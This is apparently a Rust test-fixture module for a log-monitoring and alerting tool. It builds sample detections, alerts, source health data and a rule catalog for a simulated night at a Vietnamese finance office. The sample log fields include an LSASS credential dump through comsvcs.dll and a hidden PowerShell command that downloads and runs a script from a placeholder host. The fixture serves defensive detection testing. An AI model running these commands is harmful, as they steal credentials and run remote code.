//! What happened on the trial post's night: events, the alerts they raised, sources, a refused record, a silence, rules.

use std::net::IpAddr;

use model::Entities;

use super::{
    Alert, AlertKey, AlertOrigin, AlertState, Change, Detection, Entity, EntityKind, Event, Fields, FormatHint,
    FoundBy, Id, LossAccount, MatchedField, Problem, ProblemKind, RawRecord, RefusedRule, RejectReason, Rejection,
    RuleCatalog, RuleIdentity, RuleLevel, RuleListing, Seq, Silence, SilenceReason, SilenceScope, SilenceState,
    SourceHealth, SourceId, Timestamp, Transport, Urgency, UrgencyKind, UrgencyReason, User, Value, ago,
};

/// An alert with the detection and the events it came from.
pub(crate) struct Happening {
    pub(crate) alert: Alert,
    pub(crate) detection: Detection,
    pub(crate) events: Vec<Event>,
}

struct Told {
    rule: (&'static str, &'static str, RuleLevel),
    title_vi: &'static str,
    tags: &'static [&'static str],
    entity: (EntityKind, &'static str),
    host: &'static str,
    source: &'static str,
    format: &'static str,
    /// Minutes before now of the first and the last event.
    minutes: (i64, i64),
    count: u64,
    matched: (&'static str, &'static str, &'static str),
    fields: &'static [(&'static str, &'static str)],
    exercise: bool,
}

const TOLD: &[Told] = &[
    Told {
        rule: (
            "3e2a4b10-11aa-4f0e-9d2c-5a1b6c7d8e01",
            "LSASS Memory Dumped with Comsvcs.dll",
            RuleLevel::Critical,
        ),
        title_vi: "Trích xuất bộ nhớ LSASS bằng comsvcs.dll",
        tags: &["attack.credential-access", "attack.t1003.001"],
        entity: (EntityKind::Host, "ketoan-pc07"),
        host: "ketoan-pc07",
        source: "winlogbeat/ketoan",
        format: "sysmon",
        minutes: (26, 2),
        count: 3,
        matched: ("selection_cli", "contains comsvcs.dll", "CommandLine"),
        fields: &[
            ("Image", r"C:\Windows\System32\rundll32.exe"),
            (
                "CommandLine",
                r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full",
            ),
            (
                "ParentImage",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ),
            ("User", r"TAICHINH\thanh.pt"),
            ("IntegrityLevel", "High"),
            ("ProcessId", "7312"),
        ],
        exercise: false,
    },
    Told {
        rule: (
            "9b1f4a77-0c5e-4b7e-8a30-2f6f0e5a1c02",
            "SSH Sign-In After Many Failures From One Address",
            RuleLevel::High,
        ),
        title_vi: "Đăng nhập SSH sau nhiều lần sai từ một địa chỉ",
        tags: &["attack.credential-access", "attack.t1110.001"],
        entity: (EntityKind::Address, "203.0.113.77"),
        host: "mail-gw01",
        source: "syslog/mail-gateways",
        format: "sshd",
        minutes: (64, 9),
        count: 412,
        matched: ("accepted", "startswith Accepted password", "message"),
        fields: &[
            (
                "message",
                "Accepted password for backup from 203.0.113.77 port 51122 ssh2",
            ),
            ("program", "sshd"),
            ("pid", "20117"),
            ("user", "backup"),
            ("source_ip", "203.0.113.77"),
        ],
        exercise: false,
    },
    Told {
        rule: (
            "5c0de7aa-6b1d-4c35-bb6a-7a64d21f9d03",
            "PowerShell Download Cradle",
            RuleLevel::High,
        ),
        title_vi: "PowerShell tải và chạy mã từ Internet",
        tags: &["attack.execution", "attack.t1059.001"],
        entity: (EntityKind::User, "thanh.pt"),
        host: "ketoan-pc07",
        source: "winlogbeat/ketoan",
        format: "sysmon",
        minutes: (31, 28),
        count: 2,
        matched: ("selection", "contains DownloadString", "CommandLine"),
        fields: &[
            ("Image", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            (
                "CommandLine",
                "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://cap-nhat-thue.example/hoadon.ps1')\"",
            ),
            (
                "ParentImage",
                r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
            ),
            ("User", r"TAICHINH\thanh.pt"),
        ],
        exercise: false,
    },
    Told {
        rule: (
            "7d3f0c21-e5ab-49d8-90cd-4cc3c1a90e04",
            "Trang web lừa đảo mạo danh ngân hàng",
            RuleLevel::High,
        ),
        title_vi: "",
        tags: &["attack.initial-access", "attack.t1566.002"],
        entity: (EntityKind::Host, "vanthu-02"),
        host: "vanthu-02",
        source: "suricata/hanoi",
        format: "suricata",
        minutes: (52, 20),
        count: 6,
        matched: ("sni", "endswith .vietcombanks.example", "tls.sni"),
        fields: &[
            ("event_type", "tls"),
            ("tls.sni", "dang-nhap.vietcombanks.example"),
            ("src_ip", "10.20.4.18"),
            ("dest_ip", "198.51.100.24"),
            ("dest_port", "443"),
        ],
        exercise: false,
    },
    Told {
        rule: ("watchpost/source-silent", "A log source fell silent", RuleLevel::Medium),
        title_vi: "Nguồn nhật ký im lặng",
        tags: &[],
        entity: (EntityKind::Source, "firewall/danang"),
        host: "",
        source: "firewall/danang",
        format: "unknown",
        minutes: (47, 47),
        count: 1,
        matched: ("", "", ""),
        fields: &[],
        exercise: false,
    },
    Told {
        rule: (
            "c2a1f6f0-93d4-4b1f-8f9e-0e7c4df31a05",
            "New Cron Job for Root",
            RuleLevel::Medium,
        ),
        title_vi: "Tác vụ cron mới cho root",
        tags: &["attack.persistence", "attack.t1053.003"],
        entity: (EntityKind::Host, "web-02"),
        host: "web-02",
        source: "syslog/web",
        format: "auditd",
        minutes: (140, 140),
        count: 1,
        matched: ("selection", "startswith /etc/cron.d/", "name"),
        fields: &[
            ("name", "/etc/cron.d/sysupdate"),
            ("exe", "/usr/bin/bash"),
            ("auid", "1001"),
            ("uid", "0"),
        ],
        exercise: false,
    },
    Told {
        rule: (
            "0f6f4c1d-3a2e-4b9a-8c11-6f1f0d2b7e06",
            "Reconnaissance by Net Command",
            RuleLevel::Low,
        ),
        title_vi: "Dò tìm thông tin bằng lệnh net",
        tags: &["attack.discovery", "attack.t1087.002"],
        entity: (EntityKind::Host, "ketoan-pc07"),
        host: "ketoan-pc07",
        source: "winlogbeat/ketoan",
        format: "sysmon",
        minutes: (29, 27),
        count: 9,
        matched: ("selection", "contains domain admins", "CommandLine"),
        fields: &[
            ("Image", r"C:\Windows\System32\net.exe"),
            ("CommandLine", "net group \"Domain Admins\" /domain"),
            ("User", r"TAICHINH\thanh.pt"),
        ],
        exercise: false,
    },
    Told {
        rule: (
            "aa10b6f2-70f1-43a3-9d64-2f0e5b8c3d07",
            "Port Scan From the Inside",
            RuleLevel::Medium,
        ),
        title_vi: "Quét cổng từ bên trong",
        tags: &["attack.discovery", "attack.t1046"],
        entity: (EntityKind::Address, "10.20.1.5"),
        host: "quantri-01",
        source: "suricata/hanoi",
        format: "suricata",
        minutes: (130, 110),
        count: 2210,
        matched: ("alert", "equals ET SCAN", "alert.category"),
        fields: &[
            ("event_type", "alert"),
            ("alert.category", "ET SCAN"),
            ("src_ip", "10.20.1.5"),
        ],
        exercise: false,
    },
    Told {
        rule: (
            "b7a0c0de-5d3e-4b1c-9a2f-1c2d3e4f5a08",
            "Ransom Note Written in Many Folders",
            RuleLevel::Critical,
        ),
        title_vi: "Tệp đòi tiền chuộc xuất hiện ở nhiều thư mục",
        tags: &["attack.impact", "attack.t1486"],
        entity: (EntityKind::Host, "dientap-win11"),
        host: "dientap-win11",
        source: "exercise/le-30-4",
        format: "sysmon",
        minutes: (6, 1),
        count: 38,
        matched: ("selection", "endswith \\README_KHOIPHUC.txt", "TargetFilename"),
        fields: &[
            ("TargetFilename", r"D:\HoSo\2026\README_KHOIPHUC.txt"),
            ("Image", r"C:\Users\Public\svch0st.exe"),
        ],
        exercise: true,
    },
];

pub(crate) fn night(now: Timestamp) -> Vec<Happening> {
    TOLD.iter()
        .enumerate()
        .map(|(place, told)| happening(place, told, now))
        .collect()
}

fn happening(place: usize, told: &Told, now: Timestamp) -> Happening {
    let seq = 100 * (place as Seq + 1) + 50;
    let entity = Entity {
        kind: told.entity.0,
        name: told.entity.1.into(),
    };
    let rule = RuleIdentity {
        id: told.rule.0.into(),
        title: told.rule.1.to_owned(),
        title_vi: told.title_vi.to_owned(),
        level: told.rule.2,
        tags: told.tags.iter().map(|tag| (*tag).into()).collect(),
    };
    let (wanted_at, wanted, field) = (told.matched.0, told.matched.1, told.matched.2);
    let value = told
        .fields
        .iter()
        .find(|(name, _)| *name == field)
        .map_or("", |(_, value)| *value);
    let needle = wanted.split_once(' ').map_or("", |(_, needle)| needle);
    let span = value
        .to_lowercase()
        .find(&needle.to_lowercase())
        .filter(|_| !needle.is_empty());
    let span = span.map(|start| {
        (
            u32::try_from(start).expect("a trial value is short"),
            u32::try_from(start + needle.len()).expect("a trial value is short"),
        )
    });
    let matched = MatchedField {
        selection: wanted_at.into(),
        field: field.into(),
        wanted: wanted.to_owned(),
        value: value.to_owned(),
        span,
    };
    let matched = if field.is_empty() { Vec::new() } else { vec![matched] };
    let host = (!told.host.is_empty()).then(|| told.host.into());
    let summary = if value.is_empty() {
        "im lặng 47 phút, thường 1.240 bản ghi/giờ"
    } else {
        value
    };
    let detection = Detection {
        rule: rule.clone(),
        entity: entity.clone(),
        event: seq,
        contributing: Vec::new(),
        happened_at: ago(now, told.minutes.1),
        received_at: ago(now, told.minutes.1),
        source: SourceId::new(told.source),
        host,
        matched,
        summary: summary.to_owned(),
        found_by: FoundBy::Stream,
        exercise: told.exercise,
    };
    let alert = alert(place, told, &detection, now);
    let events = if told.fields.is_empty() {
        Vec::new()
    } else {
        events(told, seq, now)
    };
    Happening {
        alert,
        detection,
        events,
    }
}

fn alert(place: usize, told: &Told, detection: &Detection, now: Timestamp) -> Alert {
    let points = match told.rule.2 {
        RuleLevel::Critical => 40,
        RuleLevel::High => 25,
        RuleLevel::Medium => 12,
        RuleLevel::Low => 4,
        RuleLevel::Informational => 1,
    };
    let reason = UrgencyReason {
        kind: UrgencyKind::Level(told.rule.2),
        number: 0,
        points,
    };
    let many = UrgencyReason {
        kind: UrgencyKind::Detections,
        number: told.count,
        points: 2,
    };
    let opened_at = ago(now, told.minutes.0);
    Alert {
        id: Id::from_bits(0x0193_5f00_0000_0000_0000_0000_0000_0000 + place as u128),
        key: AlertKey::of(detection),
        origin: if told.fields.is_empty() {
            AlertOrigin::Post
        } else {
            AlertOrigin::Rule
        },
        rule: detection.rule.clone(),
        state: AlertState::New,
        assignee: None,
        detections: told.count,
        hidden: 0,
        detail_cut: told.count - 1,
        urgency: Urgency {
            points: points + 2,
            reasons: vec![reason, many],
            rank: (points + 2) * 3600 - opened_at.as_second(),
        },
        first_seen: opened_at,
        last_seen: ago(now, told.minutes.1),
        opened_at,
        last_event: detection.event,
        source: detection.source.clone(),
        host: detection.host.clone(),
        summary: detection.summary.clone(),
        previous: None,
        revision: 1,
    }
}

/// The event and a few ordinary ones around it.
fn events(told: &Told, seq: Seq, now: Timestamp) -> Vec<Event> {
    let ordinary: [(i64, &[(&str, &str)]); 4] = [
        (
            -140,
            &[("Image", r"C:\Windows\explorer.exe"), ("CommandLine", "explorer.exe")],
        ),
        (
            -32,
            &[
                ("Image", r"C:\Windows\System32\whoami.exe"),
                ("CommandLine", "whoami /all"),
            ],
        ),
        (0, told.fields),
        (
            41,
            &[
                ("Image", r"C:\Windows\System32\cmd.exe"),
                ("CommandLine", r"cmd.exe /c dir \\fs01\hoso$"),
            ],
        ),
    ];
    ordinary
        .into_iter()
        .enumerate()
        .map(|(place, (seconds, fields))| event(told, (seq - 2 + place as Seq, seconds), fields, now))
        .collect()
}

fn event(told: &Told, (seq, seconds): (Seq, i64), fields: &[(&str, &str)], now: Timestamp) -> Event {
    let happened_at = ago(now, told.minutes.1) + jiff::SignedDuration::from_secs(seconds);
    let mut kept = Fields::default();
    for (name, value) in fields {
        kept.push(*name, Value::text(value));
    }
    let of = |name: &str| {
        fields
            .iter()
            .find(|(field, _)| *field == name)
            .map(|(_, value)| (*value).into())
    };
    let address: Option<IpAddr> = fields
        .iter()
        .find_map(|(name, value)| name.contains("ip").then(|| value.parse().ok()).flatten());
    let raw: Vec<String> = fields
        .iter()
        .map(|(name, value)| format!("{name:?}:{value:?}"))
        .collect();
    Event {
        seq,
        records: 1,
        source: SourceId::new(told.source),
        happened_at,
        received_at: happened_at + jiff::SignedDuration::from_millis(640),
        format: told.format.into(),
        logsources: model::LogSourceSet::default(),
        fields: kept,
        entities: Entities {
            host_name: (!told.host.is_empty()).then(|| told.host.into()),
            process_executable: of("Image").or_else(|| of("exe")),
            process_command_line: of("CommandLine"),
            process_parent_executable: of("ParentImage"),
            source_ip: address,
            ..Entities::default()
        },
        raw: format!("{{{}}}", raw.join(",")).into_bytes().into(),
        problems: Vec::new(),
        exercise: told.exercise,
    }
}

/// Four sources: one that speaks, one with rejected records, one silent, one that lost some.
pub(crate) fn sources(now: Timestamp) -> Vec<Change> {
    let mut changes = Vec::new();
    for (name, minutes, counts, per_hour) in [
        ("winlogbeat/ketoan", 0, (48_213, 48_150, 41, 0), Some(2_410.5)),
        ("suricata/hanoi", 1, (1_204_882, 1_204_882, 0, 0), Some(60_244.0)),
        ("syslog/mail-gateways", 2, (90_417, 90_105, 0, 312), Some(4_520.8)),
        ("firewall/danang", 47, (312_004, 312_004, 0, 0), Some(1_240.2)),
        ("syslog/web", 3, (912, 912, 0, 0), None),
    ] {
        let (received, stored, rejected, lost) = counts;
        let mut account = LossAccount {
            received,
            stored,
            lost,
            ..LossAccount::default()
        };
        if rejected > 0 {
            account.rejected.insert(RejectReason::NotParsable, rejected - 3);
            account.rejected.insert(RejectReason::Oversized, 3);
            account.problems.insert(ProblemKind::GuessedTime, 18);
        }
        let problems = if rejected > 0 {
            vec![Problem::new(
                ProblemKind::GuessedTime,
                "no zone in \"Nov 25 02:11:40\"; UTC+7 assumed",
            )]
        } else {
            Vec::new()
        };
        let source = SourceId::new(name);
        changes.push(Change::CountSource {
            source: source.clone(),
            heard_at: ago(now, minutes),
            account,
            problems,
        });
        let silent_since = (minutes > 30).then(|| ago(now, minutes));
        let health = SourceHealth {
            expected_per_hour: per_hour,
            ordinary_gap_seconds: per_hour.map(|_| 95.0),
            silent_since,
            ..SourceHealth::default()
        };
        changes.push(Change::PutSourceHealth { source, health });
    }
    changes
}

pub(crate) fn refused(now: Timestamp) -> lake::Refused {
    let record = RawRecord {
        source: SourceId::new("winlogbeat/ketoan"),
        received_at: ago(now, 12),
        transport: Transport::Bulk,
        origin: "10.20.4.31:50122".into(),
        format: FormatHint::Unknown,
        exercise: false,
        bytes: br#"{"@timestamp":"2026-11-24T19:02:05Z","message":"#.as_slice().into(),
    };
    lake::Refused {
        seq: 990,
        rejection: Rejection {
            record,
            reason: RejectReason::NotParsable,
            detail: "column 48: the text ends inside a string".to_owned(),
        },
    }
}

pub(crate) fn silence(owner: &User, now: Timestamp) -> Silence {
    Silence {
        id: Id::from_bits(77),
        scope: SilenceScope {
            rule: Some("aa10b6f2-70f1-43a3-9d64-2f0e5b8c3d07".into()),
            entity: Some(Entity {
                kind: EntityKind::Address,
                name: "10.20.1.5".into(),
            }),
            fields: Vec::new(),
        },
        reason: SilenceReason::Maintenance,
        comment: "Máy quét lỗ hổng của nhóm quản trị, lịch quét thứ Ba hằng tuần.".to_owned(),
        owner: owner.id,
        created_at: ago(now, 90),
        expires_at: now + jiff::SignedDuration::from_hours(70),
        state: SilenceState::Active,
        expected_per_day: 310.0,
        hidden: 1_204,
        hidden_that_day: 1_204,
        last_hidden_at: Some(ago(now, 4)),
        revision: 1,
    }
}

pub(crate) fn catalog() -> RuleCatalog {
    let loaded = TOLD
        .iter()
        .filter(|told| !told.fields.is_empty())
        .map(|told| RuleListing {
            identity: RuleIdentity {
                id: told.rule.0.into(),
                title: told.rule.1.to_owned(),
                title_vi: told.title_vi.to_owned(),
                level: told.rule.2,
                tags: told.tags.iter().map(|tag| (*tag).into()).collect(),
            },
            log_source: format!("{} / process_creation", told.format),
            file: format!("rules/{}.yml", told.rule.0).into(),
            author: "Watchpost".to_owned(),
            description: "Detects what its title says.".to_owned(),
            description_vi: "Phát hiện đúng điều mà tên luật nêu.".to_owned(),
            false_positives: vec!["Administrators at work".to_owned()],
            references: Vec::new(),
            text: format!(
                "title: {}\nid: {}\nlevel: {}\ndetection:\n  {}:\n    {}: '{}'\n  condition: {0}\n",
                told.rule.1,
                told.rule.0,
                told.rule.2.as_str(),
                told.matched.0,
                told.matched.2,
                told.matched.1
            )
            .into(),
            hits: told.count,
        });
    let refused = RefusedRule {
        file: "rules/local/thu-nghiem.yml".to_owned(),
        line: Some(14),
        reason: "modifier `containz` is unknown; did you mean `contains`?".to_owned(),
    };
    RuleCatalog {
        loaded: loaded.collect(),
        refused: vec![refused],
    }
}
